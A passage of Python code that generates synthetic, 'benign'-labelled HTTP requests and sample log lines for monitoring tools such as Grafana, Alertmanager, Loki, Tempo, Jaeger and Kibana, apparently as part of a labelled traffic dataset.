                    "condition": "C", "folderUID": c.tok(14), "ruleGroup": c.pick(["slo", "infra", "every-1m"]), "for": c.pick(["5m", "10m", "0s"]), "orgID": 1,
                    "data": [{"refId": "A", "relativeTimeRange": {"from": 600, "to": 0}, "datasourceUid": c.tok(14),
                              "model": {"expr": fill(c, c.pick(PROMQL)), "instant": True, "intervalMs": 1000, "maxDataPoints": 43200, "refId": "A"}},
                             {"refId": "B", "datasourceUid": "__expr__", "model": {"type": "reduce", "expression": "A", "reducer": "last", "settings": {"mode": "dropNN"}, "refId": "B"}},
                             {"refId": "C", "datasourceUid": "__expr__", "model": {"type": "threshold", "expression": "B", "conditions": [{"evaluator": {"params": [c.pick([0.05, 0.8, 500])], "type": "gt"}}], "refId": "C"}}],
                    "noDataState": "NoData", "execErrState": "Error",
                    "annotations": {"summary": c.pick(["{{ $labels.instance }} error rate is {{ humanizePercentage $values.B.Value }}", "High latency on {{ $labels.route }}: {{ printf \"%.0f\" $values.B.Value }} ms",
                                                       "Disk {{ $labels.mountpoint }} on {{ $labels.instance }} fills up soon"]),
                                    "description": "Value: {{ $values.B }}\nRunbook: https://wiki.example.com/runbooks/{{ $labels.job }}", "runbook_url": "https://wiki.example.com/runbooks/high-error-rate"},
                    "labels": {"severity": c.pick(["page", "ticket"]), "team": c.pick(["payments", "sre", "data"])}, "isPaused": False}
            c.emit("benign", "alerting", "POST", "/api/v1/provisioning/alert-rules", hdrs(c, host, c.pick(["Terraform/1.9.8 terraform-provider-grafana/3.13.0", "python-requests/2.32.3"] + UA_BROWSER), "application/json", extra=[["Authorization", f"Bearer glsa_{c.tok(32)}_{c.hex(8)}"], ["X-Disable-Provenance", "true"]]), jdump(body, ascii_only=False))
        elif m == 2:
            host = c.pick(H_GRAFANA)
            tmpl = c.pick([
                '{{ define "slack.title" }}[{{ .Status | toUpper }}{{ if eq .Status "firing" }}:{{ .Alerts.Firing | len }}{{ end }}] {{ .CommonLabels.alertname }}{{ end }}',
                '{{ define "custom.message" }}{{ range .Alerts }}*{{ .Labels.alertname }}* on {{ .Labels.instance }}\n{{ .Annotations.summary }}\n<{{ .GeneratorURL }}|Source> | <{{ .SilenceURL }}|Silence>\n{{ end }}{{ end }}',
                '{{ define "email.subject" }}{{ len .Alerts.Firing }} firing / {{ len .Alerts.Resolved }} resolved — {{ .GroupLabels.SortedPairs.Values | join " " }}{{ end }}',
            ])
            c.emit("benign", "alerting", "PUT", "/api/v1/provisioning/templates/" + c.pick(["slack", "custom", "email"]), hdrs(c, host, ctype="application/json", extra=g_extra(c, False)), jdump({"template": tmpl}))
        elif m in (3, 4):
            host = c.pick(["alertmanager.monitoring.svc:9093", "alertmanager.internal.example.net"])
            body = {"matchers": [{"name": "alertname", "value": c.pick(["HighErrorRate", "KubePodCrashLooping", "NodeFilesystemSpaceFillingUp"]), "isRegex": False, "isEqual": True},
                                 {"name": "instance", "value": c.pick(["web-0[1-3].*", "10\\.0\\.3\\..*", "db-02:9187"]), "isRegex": True, "isEqual": True}],
                    "startsAt": "2026-12-05T08:00:00.000Z", "endsAt": "2026-12-05T10:00:00.000Z", "createdBy": c.pick(USERS),
                    "comment": c.pick(["Deploy of v2.14 — expected 5xx spike for ~10 min", "Maintenance: kernel upgrade on web-01..03 (CHG-2291)", "Known issue, see INC-4821; silence until fix is out", "Wartungsfenster DB-Failover"])}
            c.emit("benign", "alerting", "POST", "/api/v2/silences", hdrs(c, host, ctype="application/json", extra=[["Accept", "application/json"]]), jdump(body, ascii_only=False))
        elif m == 5:
            host = c.pick(["alert-router.internal.example.net", "hooks.example.io", "ops-bot.acme-corp.com"])
            alerts = []
            for _ in range(c.rng.randint(1, 3)):
                inst = f"{c.ip()}:8080"
                expr = fill(c, c.pick(PROMQL))
                alerts.append({"status": "firing", "labels": {"alertname": "HighErrorRate", "instance": inst, "job": c.pick(JOBS), "severity": "page"},
                               "annotations": {"summary": f"Error rate above 5% on {inst}", "description": f"sum(rate(...)) = 0.0{c.rng.randint(5, 9)}"},
                               "startsAt": "2026-12-05T07:58:30.123Z", "endsAt": "0001-01-01T00:00:00Z",
                               "generatorURL": "http://prometheus.monitoring.svc:9090/graph?g0.expr=" + encp(expr) + "&g0.tab=1", "fingerprint": c.hex(16)})
            body = {"receiver": "ops-webhook", "status": "firing", "alerts": alerts, "groupLabels": {"alertname": "HighErrorRate"}, "commonLabels": {"alertname": "HighErrorRate"},
                    "commonAnnotations": {}, "externalURL": "http://alertmanager.monitoring.svc:9093", "version": "4", "groupKey": '{}/{severity="page"}:{alertname="HighErrorRate"}', "truncatedAlerts": 0}
            c.emit("benign", "alerting", "POST", "/alertmanager/webhook", hdrs(c, host, "Alertmanager/0.27.0", "application/json"), jdump(body))
        elif m == 6:
            host = c.pick(["mimir.internal.example.net", "cortex.monitoring.svc:8080"])
            job = c.pick(JOBS)
            yaml = f"""name: {job}-slo
interval: 1m
rules:
  - record: job:http_requests:rate5m
    expr: sum by (job, code) (rate(http_requests_total{{job="{job}"}}[5m]))
  - alert: {job.capitalize()}HighErrorRate
    expr: |
      sum(rate(http_requests_total{{job="{job}", code=~"5.."}}[5m]))
        / sum(rate(http_requests_total{{job="{job}"}}[5m])) > 0.05
    for: 10m
    labels:
      severity: page
    annotations:
      summary: "{{{{ $labels.job }}}} error rate {{{{ $value | humanizePercentage }}}}"
      runbook_url: https://wiki.example.com/runbooks/{job}
"""
            c.emit("benign", "alerting", "POST", f"/prometheus/config/v1/rules/{c.pick(['team-payments', 'sre', 'default'])}", hdrs(c, host, "mimirtool/2.14.0", "application/yaml", extra=[["X-Scope-OrgID", c.pick(["tenant-a", "prod"])]]), yaml)
        else:
            host = c.pick(H_GRAFANA)
            body = {"name": c.pick(["payments-slack", "sre-pagerduty", "data-email"]), "type": c.pick(["slack", "email", "webhook"]),
                    "settings": {"recipient": "#payments-alerts", "addresses": "sre@example.com;oncall@example.com", "url": "https://hooks.slack.com/services/T0000000/B0000000/" + c.tok(24),
                                 "title": '{{ template "slack.title" . }}', "text": '{{ template "custom.message" . }}'}, "disableResolveMessage": False}
            c.emit("benign", "alerting", "POST", "/api/v1/provisioning/contact-points", hdrs(c, host, ctype="application/json", extra=g_extra(c, False)), jdump(body))


LOG_MSGS = [
    'level=info ts=2026-12-05T07:59:01.221Z caller=server.go:142 msg="request completed" method=GET path=/api/orders/88123 status=200 duration=23.4ms',
    'level=warn ts=2026-12-05T07:59:02.004Z caller=client.go:88 msg="retrying upstream" upstream=payments attempt=2 err="context deadline exceeded"',
    '{"level":"error","ts":"2026-12-05T07:59:03.512Z","logger":"checkout","msg":"payment declined","order_id":"ord_88123","code":"card_declined","trace_id":"<<trace>>"}',
    '{"level":"info","msg":"GET /api/v2/products?page=3&per_page=50 200 41ms","user_id":4211,"request_id":"<<uuid>>"}',
    '10.2.14.7 - - [05/Dec/2026:07:59:04 +0000] "GET /static/js/app.3f2a91.js HTTP/1.1" 200 48213 "https://shop.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"',
    '10.2.9.31 - - [05/Dec/2026:07:59:05 +0000] "GET /favicon.ico HTTP/1.1" 404 153 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"',
    'I1205 07:59:06.118231       1 controller.go:217] "Reconciling" deployment="prod/checkout" replicas=6',
    '2026-12-05 07:59:07,412 WARNING [celery.worker] Task reports.generate[9f2c] retry in 30s: ReadTimeout(\'HTTPSConnectionPool(host=\\\'api.partner.example\\\', port=443): Read timed out. (read timeout=10)\')',
    'Started GET "/orders/88123" for 10.2.3.4 at 2026-12-05 07:59:08 +0000',
    '  Order Load (1.2ms)  SELECT "orders".* FROM "orders" WHERE "orders"."id" = $1 LIMIT $2  [["id", 88123], ["LIMIT", 1]]',
    'Completed 200 OK in 38ms (Views: 21.0ms | ActiveRecord: 4.1ms | Allocations: 8120)',
]


def b_logql(c, n):
    for i in range(n):
        host = c.pick(H_LOKI)
        m = i % 10
        ex = [["Accept", "application/json"], ["X-Scope-OrgID", c.pick(["tenant-a", "prod", "fake"])]]
        ua = c.pick(["Grafana/11.3.1", "logcli/3.2.1", "python-requests/2.32.3"] + UA_BROWSER[:2])
        expr = fill(c, LOGQL[i % len(LOGQL)])
        if m <= 4:
            p = [("query", expr), ("start", (BASE - 3600) * 10 ** 9), ("end", BASE * 10 ** 9), ("limit", c.pick([100, 1000, 5000])), ("direction", c.pick(["backward", "forward"]))]
            if c.rng.random() < 0.5:
                p.append(("step", c.pick(["15s", "60s", "5m"])))
            c.emit("benign", "logql", "GET", "/loki/api/v1/query_range?" + qs(p, c.pick([enc, encp])), hdrs(c, host, ua, extra=ex))
        elif m == 5:
            body = form([("query", expr), ("time", BASE * 10 ** 9), ("limit", 100)])
            c.emit("benign", "logql", "POST", "/loki/api/v1/query", hdrs(c, host, ua, "application/x-www-form-urlencoded", extra=ex), body)
        elif m == 6:
            c.emit("benign", "logql", "GET", c.pick(["/loki/api/v1/labels?start=%d&end=%d" % ((BASE - 21600) * 10 ** 9, BASE * 10 ** 9), "/loki/api/v1/label/app/values?" + qs([("query", '{namespace="prod"}')]),
                                                    "/loki/api/v1/series?" + qs([("match[]", '{app=~"checkout|payments"}'), ("start", (BASE - 3600) * 10 ** 9)]),
                                                    "/loki/api/v1/index/stats?" + qs([("query", '{cluster="eu-west-1", namespace="prod"}'), ("start", (BASE - 3600) * 10 ** 9), ("end", BASE * 10 ** 9)]),
                                                    "/loki/api/v1/detected_fields?" + qs([("query", '{app="checkout"}'), ("limit", 1000)])]), hdrs(c, host, ua, extra=ex))
        else:
            streams = []
            for _ in range(c.rng.randint(1, 3)):
                app = c.pick(APPS)
                vals = []
                for _ in range(c.rng.randint(2, 6)):
                    msg = c.pick(LOG_MSGS).replace("<<trace>>", c.hex(32)).replace("<<uuid>>", c.uuid())
                    vals.append([str((BASE - c.rng.randint(0, 60)) * 10 ** 9 + c.rng.randint(0, 10 ** 9 - 1)), msg])
                streams.append({"stream": {"app": app, "namespace": c.pick(NAMESPACES), "pod": c.pod(app), "container": app, "cluster": c.pick(REGIONS)}, "values": vals})
            c.emit("benign", "logql", "POST", "/loki/api/v1/push", hdrs(c, host, c.pick(["promtail/3.2.1", "GrafanaAgent/v0.43.3", "Alloy/v1.5.0 (linux/amd64)", "fluent-bit/3.1.9"]), "application/json", extra=[["X-Scope-OrgID", "prod"]]), jdump({"streams": streams}))


def b_traces(c, n):
    for i in range(n):
        m = i % 6
        if m <= 2:
            host = c.pick(H_TEMPO)
            q = fill(c, TRACEQL[i % len(TRACEQL)])
            p = [("q", q), ("limit", 20), ("spss", 3), ("start", BASE - 3600), ("end", BASE)]
            c.emit("benign", "traces", "GET", "/api/search?" + qs(p), hdrs(c, host, c.pick(["Grafana/11.3.1"] + UA_BROWSER), extra=[["Accept", "application/json"]]))
        elif m == 3:
            host = c.pick(H_TEMPO)
            c.emit("benign", "traces", "GET", c.pick([f"/api/traces/{c.hex(32)}", f"/api/v2/traces/{c.hex(32)}?start={BASE - 3600}&end={BASE}", "/api/v2/search/tags?scope=span",
                                                      "/api/v2/search/tag/resource.service.name/values?" + qs([("q", '{ resource.k8s.namespace.name = "prod" }')])]),
                   hdrs(c, host, "Grafana/11.3.1", extra=[["Accept", "application/protobuf" if c.rng.random() < 0.3 else "application/json"]]))
        else:
            host = c.pick(H_JAEGER)
            svc = c.pick(APPS)
            tags = c.pick([{"http.status_code": "500"}, {"error": "true"}, {"http.method": "POST", "http.route": "/checkout/confirm"}, {"db.system": "postgresql"}])
            p = [("end", BASE * 10 ** 6), ("limit", 20), ("lookback", c.pick(["1h", "2h", "custom"])), ("maxDuration", ""), ("minDuration", c.pick(["", "100ms", "1.5s"])),
                 ("service", svc), ("operation", c.pick(["", "GET /api/orders/{id}", "HTTP POST", "SELECT shop.orders"])), ("start", (BASE - 3600) * 10 ** 6), ("tags", jdump(tags))]
            u = c.pick(["/api/traces?" + qs(p), "/search?" + qs(p), f"/api/services/{svc}/operations", f"/api/dependencies?endTs={BASE * 1000}&lookback=604800000", f"/api/traces/{c.hex(16)}"])
            c.emit("benign", "traces", "GET", u, hdrs(c, host, accept="application/json"))


def es_search_body(c):
    r = c.rng
    m = r.randint(0, 9)
    gte = c.pick(["now-15m", "now-1h", "now-24h", "2026-12-04T00:00:00Z"])
    if m == 0:
        return {"size": 0, "query": {"bool": {"filter": [{"range": {"@timestamp": {"gte": gte, "lte": "now", "format": "strict_date_optional_time"}}}, {"term": {"service.name": c.pick(APPS)}}]}},
                "aggs": {"per_minute": {"date_histogram": {"field": "@timestamp", "fixed_interval": "1m", "min_doc_count": 0}, "aggs": {"p95": {"percentiles": {"field": "event.duration", "percents": [95, 99]}}}}}}
    if m == 1:
        return {"query": {"bool": {"must": [{"match": {"message": c.pick(["connection reset", "timeout", "NullPointerException", "payment declined"])}}],
                                   "must_not": [{"term": {"url.path": "/healthz"}}], "filter": [{"range": {"http.response.status_code": {"gte": 500}}}]}},
                "sort": [{"@timestamp": {"order": "desc", "unmapped_type": "boolean"}}], "size": 50, "_source": ["@timestamp", "message", "host.name", "trace.id"],
                "highlight": {"pre_tags": ["@kibana-highlighted-field@"], "post_tags": ["@/kibana-highlighted-field@"], "fields": {"*": {}}, "fragment_size": 2147483647}}
    if m == 2:
        return {"size": 0, "aggs": {"top_paths": {"terms": {"field": "url.path", "size": 10, "order": {"_count": "desc"}}, "aggs": {"status": {"terms": {"field": "http.response.status_code"}}}}},
                "query": {"query_string": {"query": c.pick(KQL[:10]), "analyze_wildcard": True, "default_field": "*"}}}
    if m == 3:
        return {"query": {"multi_match": {"query": c.pick(["wireless headphones", "kaffeemaschine", "iphone 15 case", "北海道 旅行"]), "fields": ["title^3", "description", "brand"], "type": "best_fields", "fuzziness": "AUTO"}},
                "aggs": {"brands": {"terms": {"field": "brand.keyword", "size": 20}}, "price": {"range": {"field": "price", "ranges": [{"to": 50}, {"from": 50, "to": 200}, {"from": 200}]}}},
                "from": c.pick([0, 20, 40]), "size": 20, "highlight": {"fields": {"title": {}, "description": {"number_of_fragments": 2}}}}
    if m == 4:
        return {"size": 20, "query": {"bool": {"should": [{"wildcard": {"host.name": {"value": "web-0*"}}}, {"prefix": {"kubernetes.pod.name": "checkout-"}}], "minimum_should_match": 1,
                                               "filter": {"exists": {"field": "error.stack_trace"}}}}, "fields": [{"field": "@timestamp", "format": "strict_date_optional_time"}], "track_total_hits": False}
    if m == 5:
        return {"runtime_mappings": {"duration_s": {"type": "double", "script": {"source": "emit(doc['event.duration'].value / 1000000000.0)"}}},
                "size": 0, "aggs": {"avg_duration": {"avg": {"field": "duration_s"}}}, "query": {"term": {"event.dataset": "nginx.access"}}}
    if m == 6:
        return {"query": {"nested": {"path": "items", "query": {"bool": {"must": [{"match": {"items.sku": "SKU-4411"}}, {"range": {"items.qty": {"gt": 2}}}]}}}}, "size": 10}
    if m == 7:
        return {"size": 0, "query": {"match_all": {}}, "aggs": {"uniq_users": {"cardinality": {"field": "user.id"}}, "by_country": {"terms": {"field": "client.geo.country_iso_code", "size": 5}, "aggs": {"revenue": {"sum": {"field": "order.total"}}}}}}
    if m == 8:
        return {"query": {"match_phrase": {"message": {"query": c.pick(["could not obtain lock", "deadline exceeded", "broken pipe"]), "slop": 1}}}, "search_after": [BASE * 1000, c.hex(20)], "sort": [{"@timestamp": "desc"}, {"_shard_doc": "asc"}], "size": 100,
                "pit": {"id": base64.b64encode(c.hex(40).encode()).decode(), "keep_alive": "1m"}}
    return {"suggest": {"title-suggest": {"prefix": c.pick(["hea", "kaf", "iph"]), "completion": {"field": "title.suggest", "fuzzy": {"fuzziness": 1}, "size": 5}}}}


def b_kibana(c, n):
    for i in range(n):
        m = i % 11
        host = c.pick(H_KIBANA)
        osd = "opensearch" in host
        ex = kbn_extra(c, osd)
        if m <= 2:
            kq = c.pick(KQL)
            lang = c.pick(["kuery", "lucene"])
            body = {"batch": [{"request": {"params": {"index": c.pick(["logs-*", "filebeat-*", "traces-apm*,apm-*", "logs-nginx.access-default"]),
                                                      "body": {"size": 500, "sort": [{"@timestamp": {"order": "desc", "unmapped_type": "boolean"}}], "track_total_hits": False,
                                                               "fields": [{"field": "*", "include_unmapped": "true"}], "_source": False, "runtime_mappings": {},
                                                               "query": {"bool": {"must": [], "filter": [{"bool" if lang == "kuery" else "query_string": ({"should": [{"match_phrase": {"log.level": "error"}}], "minimum_should_match": 1} if lang == "kuery" else {"query": kq, "analyze_wildcard": True})},
                                                                                                         {"range": {"@timestamp": {"format": "strict_date_optional_time", "gte": "2026-12-05T07:00:00.000Z", "lte": "2026-12-05T08:00:00.000Z"}}}], "should": [], "must_not": []}},
                                                               "highlight": {"pre_tags": ["@kibana-highlighted-field@"], "post_tags": ["@/kibana-highlighted-field@"], "fields": {"*": {}}, "fragment_size": 2147483647}},
                                                      "preference": BASE * 1000}},
                               "options": {"strategy": "ese", "isStored": False, "executionContext": {"name": "discover", "url": "/app/discover", "type": "application", "page": "app", "description": "fetch documents"}}}]}
            if osd:
                c.emit("benign", "kibana", "POST", "/internal/search/opensearch-with-long-numerals", hdrs(c, host, ctype="application/json", extra=ex), jdump({"params": body["batch"][0]["request"]["params"]}))
            else:
                c.emit("benign", "kibana", "POST", "/internal/bsearch?compress=true", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
        elif m == 3:
            kq = c.pick(KQL)
            ssj = {"query": {"query": kq, "language": "kuery"}, "filter": [{"meta": {"alias": None, "negate": True, "disabled": False, "type": "phrase", "key": "url.path", "params": {"query": "/healthz"}},
                                                                         "query": {"match_phrase": {"url.path": "/healthz"}}}], "indexRefName": "kibanaSavedObjectMeta.searchSourceJSON.index"}
            body = {"attributes": {"title": c.pick(["5xx last 24h", "Payment failures", "Slow queries > 1s", "Fehler im Checkout"]), "description": "", "columns": ["message", "url.path", "http.response.status_code"],
                                   "sort": [["@timestamp", "desc"]], "kibanaSavedObjectMeta": {"searchSourceJSON": jdump(ssj)}}, "references": [{"name": "kibanaSavedObjectMeta.searchSourceJSON.index", "type": "index-pattern", "id": c.uuid()}]}
            c.emit("benign", "kibana", "POST", "/api/saved_objects/search", hdrs(c, host, ctype="application/json", extra=ex), jdump(body, ascii_only=False))
        elif m == 4:
            path = c.pick(["_cat/indices/logs-*?v&h=index,docs.count,store.size&s=store.size:desc&bytes=mb", "_search", "_cluster/health", "logs-*/_mapping/field/http.*"])
            body = jdump(es_search_body(c)) if path == "_search" else ""
            c.emit("benign", "kibana", "POST", "/api/console/proxy?" + qs([("path", path), ("method", "GET" if path != "_search" else "POST")]), hdrs(c, host, ctype="application/json", extra=ex), body)
        elif m == 5:
            f = c.pick(["count(kql='http.response.status_code >= 500') / count()", "percentile(event.duration, percentile=99) / 1000000", "sum(order.total) - sum(order.total, shift='1w')",
                        "unique_count(user.id, kql='event.action : \"login\" and event.outcome : \"success\"')", "moving_average(average(bytes), window=5)"])
            state = {"visualization": {"layers": [{"layerId": c.uuid(), "accessors": ["c1"], "seriesType": "line", "xAccessor": "x1"}], "preferredSeriesType": "line"},
                     "query": {"query": c.pick(KQL), "language": "kuery"}, "filters": [],
                     "datasourceStates": {"formBased": {"layers": {"l1": {"columns": {"x1": {"operationType": "date_histogram", "sourceField": "@timestamp", "params": {"interval": "auto"}},
                                                                                     "c1": {"operationType": "formula", "label": "Error ratio", "params": {"formula": f, "isFormulaBroken": False}}}, "columnOrder": ["x1", "c1"]}}}}}
            body = {"attributes": {"title": c.pick(["Error ratio", "p99 latency (ms)", "Revenue WoW", "Logins"]), "visualizationType": "lnsXY", "state": state}, "references": []}
            c.emit("benign", "kibana", "POST", "/api/saved_objects/lens", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
        elif m == 6:
            jp = ("(browserTimezone:Europe/Berlin,layout:(dimensions:(height:1200,width:1800),id:preserve_layout),locatorParams:(id:DASHBOARD_APP_LOCATOR,params:(dashboardId:'"
                  + c.uuid() + "',preserveSavedFilters:!t,query:(language:kuery,query:'" + c.pick(["service.name : \"checkout\"", "http.response.status_code >= 500", "host.name : web-*"]).replace("'", "!'")
                  + "'),timeRange:(from:now-7d,to:now),useHash:!f,viewMode:view)),objectType:dashboard,title:'Weekly ops review',version:'8.15.3')")
            c.emit("benign", "kibana", "POST", "/api/reporting/generate/printablePdfV2?jobParams=" + enc(jp), hdrs(c, host, ctype="application/json", extra=ex), "")
        elif m == 7:
            esq = {"query": {"bool": {"filter": [{"term": {"service.name": c.pick(APPS)}}, {"range": {"http.response.status_code": {"gte": 500}}}]}}}
            body = {"name": c.pick(["checkout 5xx", "payments errors", "login failures spike"]), "rule_type_id": ".es-query", "consumer": "alerts", "schedule": {"interval": "1m"}, "actions": [],
                    "params": {"searchType": "esQuery", "esQuery": jdump(esq, pretty=True), "index": ["logs-*"], "timeField": "@timestamp", "threshold": [c.pick([10, 50, 100])], "thresholdComparator": ">",
                               "size": 100, "timeWindowSize": 5, "timeWindowUnit": "m", "excludeHitsFromPreviousRun": True, "aggType": "count", "groupBy": "all"}, "tags": ["slo"]}
            c.emit("benign", "kibana", "POST", "/api/alerting/rule", hdrs(c, host, ctype="application/json", extra=ex), jdump(body))
        elif m == 8:
            c.emit("benign", "kibana", "GET", "/api/saved_objects/_find?" + qs([("type", "index-pattern"), ("fields", "title"), ("per_page", 10000), ("search", c.pick(["logs*", "filebeat-*"])), ("search_fields", "title")]), hdrs(c, host, extra=ex))
        elif m == 9:
            bnd = "----WebKitFormBoundary" + c.tok(16)
            nd = "\n".join([
                jdump({"attributes": {"title": "logs-*", "timeFieldName": "@timestamp", "fields": "[]"}, "id": c.uuid(), "type": "index-pattern", "references": [], "managed": False, "coreMigrationVersion": "8.8.0", "typeMigrationVersion": "8.0.0"}),
                jdump({"attributes": {"title": "Errors by service", "visState": jdump({"title": "Errors by service", "type": "histogram", "params": {"addLegend": True}, "aggs": [{"id": "1", "type": "count", "schema": "metric"}, {"id": "2", "type": "terms", "schema": "segment", "params": {"field": "service.name", "size": 10}}]}),
                                      "kibanaSavedObjectMeta": {"searchSourceJSON": jdump({"query": {"query": "log.level : error", "language": "kuery"}, "filter": []})}}, "id": c.uuid(), "type": "visualization", "references": []}),
                jdump({"excludedObjects": [], "excludedObjectsCount": 0, "exportedCount": 2, "missingRefCount": 0, "missingReferences": []}),
            ])
            body = f"--{bnd}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"export.ndjson\"\r\nContent-Type: application/octet-stream\r\n\r\n{nd}\r\n--{bnd}--\r\n"
            c.emit("benign", "kibana", "POST", "/api/saved_objects/_import?overwrite=true", hdrs(c, host, ctype=f"multipart/form-data; boundary={bnd}", extra=ex), body)
        else:
            c.emit("benign", "kibana", "GET", c.pick(["/api/status", "/internal/security/me", "/api/index_management/indices", "/api/data_views", "/internal/data_views/_fields_for_wildcard?pattern=logs-*&meta_fields=_source&meta_fields=_id&meta_fields=_index&allow_no_index=true"]),
                   hdrs(c, host, extra=ex))


NGINX_PATHS = ["/", "/static/js/app.3f2a91.js", "/static/css/main.8c1d.css", "/api/v2/products?page=2&per_page=50", "/api/orders/88123", "/favicon.ico", "/robots.txt",
               "/api/cart/items", "/images/products/4411/thumb.webp", "/checkout/confirm", "/api/v1/search?q=running+shoes&sort=price_asc", "/healthz", "/account/orders?status=shipped",
               "/fonts/inter-var.woff2", "/api/orders/99812", "/sitemap.xml", "/de/produkte/kaffeemaschinen?seite=2", "/api/v1/recommendations?user=4211&limit=8"]


def nginx_line(c):
    path = c.pick(NGINX_PATHS)
    status = c.pick([200, 200, 200, 200, 304, 301, 404, 499, 502, 504]) if "healthz" not in path else 200
    if path in ("/favicon.ico", "/api/orders/99812"):
        status = 404
    meth = "POST" if path in ("/api/cart/items", "/checkout/confirm") else "GET"
    t = BASE - c.rng.randint(0, 300)
    return (f'{c.ip()} - - [05/Dec/2026:07:{(t // 60) % 60:02d}:{t % 60:02d} +0000] "{meth} {path} HTTP/1.1" {status} {c.rng.randint(0, 90000)} '
            f'"{c.pick(["-", "https://shop.example.com/", "https://www.google.com/"])}" "{c.pick(UA_BROWSER)}" {c.rng.randint(1, 3000) / 1000:.3f}')


STACKS = [
    """java.lang.IllegalStateException: Order 88123 is already confirmed
\tat com.acme.orders.OrderService.confirm(OrderService.java:142)
\tat com.acme.orders.OrderController.confirm(OrderController.java:67)
\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)
\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)
\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)
\tat org.springframework.web.servlet.DispatcherServlet.doDispatch(DispatcherServlet.java:1089)
\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:140)
\tat java.base/java.lang.Thread.run(Thread.java:1583)""",
    """org.postgresql.util.PSQLException: ERROR: duplicate key value violates unique constraint "orders_pkey"
  Detail: Key (id)=(88123) already exists.
\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2725)
\tat org.postgresql.core.v3.QueryExecutorImpl.processResults(QueryExecutorImpl.java:2412)
\tat com.zaxxer.hikari.pool.HikariProxyPreparedStatement.executeUpdate(HikariProxyPreparedStatement.java)
\tat org.hibernate.engine.jdbc.internal.ResultSetReturnImpl.executeUpdate(ResultSetReturnImpl.java:194)
\t... 87 common frames omitted""",
    """java.net.SocketTimeoutException: Read timed out
\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:278)
\tat java.base/java.net.Socket$SocketInputStream.read(Socket.java:1099)
\tat okhttp3.internal.http1.Http1ExchangeCodec.readResponseHeaders(Http1ExchangeCodec.kt:180)
\tat com.acme.payments.client.PspClient.charge(PspClient.kt:58)""",
    """Traceback (most recent call last):
  File "/app/worker/tasks.py", line 88, in process_export
    resp = session.get(url, timeout=10)
  File "/usr/local/lib/python3.11/site-packages/requests/sessions.py", line 602, in get
    return self.request("GET", url, **kwargs)
  File "/usr/local/lib/python3.11/site-packages/requests/adapters.py", line 713, in send
    raise ReadTimeout(e, request=request)
requests.exceptions.ReadTimeout: HTTPSConnectionPool(host='api.partner.example', port=443): Read timed out. (read timeout=10)""",
    """Traceback (most recent call last):
  File "/app/api/views.py", line 41, in order_detail
    order = Order.objects.get(pk=order_id, customer=request.user)
  File "/usr/local/lib/python3.12/site-packages/django/db/models/manager.py", line 87, in manager_method
    return getattr(self.get_queryset(), name)(*args, **kwargs)
shop.models.Order.DoesNotExist: Order matching query does not exist.""",
    """Error: connect ECONNREFUSED 10.0.4.12:5432
    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16) {
  errno: -111,
  code: 'ECONNREFUSED',
  syscall: 'connect',
  address: '10.0.4.12',
  port: 5432
}""",
    """TypeError: Cannot read properties of undefined (reading 'total')
    at computeCartTotal (/app/dist/cart/service.js:88:31)
    at async CartController.get (/app/dist/cart/controller.js:22:19)""",
    """panic: runtime error: invalid memory address or nil pointer dereference
[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x4a3f2e]

goroutine 1187 [running]:
github.com/acme/ingest/internal/pipeline.(*Batch).Flush(0x0)
\t/src/internal/pipeline/batch.go:88 +0x2e
github.com/acme/ingest/internal/pipeline.(*Worker).run(0xc000a12000)
\t/src/internal/pipeline/worker.go:142 +0x1c5""",
    """ActiveRecord::RecordNotFound (Couldn't find Order with 'id'=99812):

app/controllers/orders_controller.rb:12:in `show'
actionpack (7.1.3) lib/action_controller/metal/basic_implicit_render.rb:6:in `send_action'""",
    """System.InvalidOperationException: Sequence contains no elements
   at System.Linq.ThrowHelper.ThrowNoElementsException()
   at Acme.Billing.InvoiceService.GetLatest(Int32 customerId) in /src/Billing/InvoiceService.cs:line 77
   at Acme.Billing.Controllers.InvoicesController.Latest(Int32 id) in /src/Billing/Controllers/InvoicesController.cs:line 31""",
]

ORM_LINES = [
    '(0.003) SELECT "auth_user"."id", "auth_user"."username", "auth_user"."email" FROM "auth_user" WHERE "auth_user"."id" = 42 LIMIT 21; args=(42,); alias=default',
    'Hibernate: select o1_0.id,o1_0.customer_id,o1_0.total,o1_0.status from orders o1_0 where o1_0.customer_id=? order by o1_0.created_at desc fetch first ? rows only',
    'sqlalchemy.engine.Engine [cached since 12.4s ago] SELECT orders.id, orders.total FROM orders WHERE orders.customer_id = %(customer_id_1)s LIMIT %(param_1)s took 12ms',
    'Order Load (1.2ms)  SELECT "orders".* FROM "orders" WHERE "orders"."user_id" = $1 ORDER BY "orders"."created_at" DESC LIMIT $2  [["user_id", 42], ["LIMIT", 20]]',
    'prisma:query SELECT `shop`.`Product`.`id`, `shop`.`Product`.`name` FROM `shop`.`Product` WHERE `shop`.`Product`.`categoryId` = ? LIMIT ? OFFSET ? (4 ms)',
    'slow query: UPDATE inventory SET reserved = reserved + $1 WHERE sku = $2 took 1204ms (threshold 500ms)',
    'gorm: [2.311ms] [rows:1] SELECT * FROM `sessions` WHERE token = "<redacted>" AND `sessions`.`deleted_at` IS NULL ORDER BY `sessions`.`id` LIMIT 1',
    'LOG:  duration: 1532.204 ms  execute <unnamed>: SELECT count(*) FROM events WHERE created_at >= $1 AND tenant_id = $2',
]


def app_log_record(c):
    m = c.rng.randint(0, 9)
    svc = c.pick(APPS)
    base = {"@timestamp": f"2026-12-05T07:{c.rng.randint(0, 59):02d}:{c.rng.randint(0, 59):02d}.{c.rng.randint(0, 999):03d}Z", "service": svc, "host": f"{svc}-{c.rng.randint(1, 6):02d}",
            "env": c.pick(["prod", "staging"])}
    if m <= 2:
